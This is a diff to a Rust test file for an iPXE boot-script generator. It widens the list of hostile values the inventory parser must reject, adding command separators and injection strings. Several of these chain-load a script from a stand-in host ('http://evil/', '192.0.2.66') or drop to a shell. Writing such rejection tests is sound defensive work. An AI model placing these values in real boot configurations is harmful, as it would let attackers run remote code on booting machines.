@@ -8,8 +8,19 @@ use bootvol::model::NodeRecord;
 
 use crate::support::{config, render_record};
 
-const HOSTILE: &[&str] =
-    &["x\nchain http://evil/", "${net0/ip}", "ok extra-argument", "trailing\\", "a#b", "tab\there"];
+/// The last three are iPXE's command separators (`src/core/exec.c` splits a line at these whole
+/// tokens): as a value each would start another command.
+const HOSTILE: &[&str] = &[
+    "x\nchain http://evil/",
+    "${net0/ip}",
+    "ok extra-argument",
+    "trailing\\",
+    "a#b",
+    "tab\there",
+    "&&",
+    "||",
+    ";",
+];
 
 fn base_nodes() -> Value {
     json!({"nodes": [
@@ -107,7 +118,16 @@ fn every_script_field_refuses_every_hostile_value_at_the_edge() {
 fn kernel_append_params_split_on_spaces_but_refuse_lines_and_expansions() {
     let dir = tempfile::tempdir().unwrap();
     let config = config(dir.path());
-    for hostile in ["console=ttyS0\nshell", "x=${net0/ip}", "a#b", "trailing\\"] {
+    for hostile in [
+        "console=ttyS0\nshell",
+        "x=${net0/ip}",
+        "a#b",
+        "trailing\\",
+        "console=ttyS0 && chain http://192.0.2.66/x.ipxe",
+        "quiet || shell",
+        "quiet ; shell",
+        "&&",
+    ] {
         let mut doc = base_nodes();
         doc["nodes"][5]["instance_info"]["kernel_append_params"] = json!(hostile);
         let err = inventory::parse(&doc.to_string(), Format::Json, &config).unwrap_err();
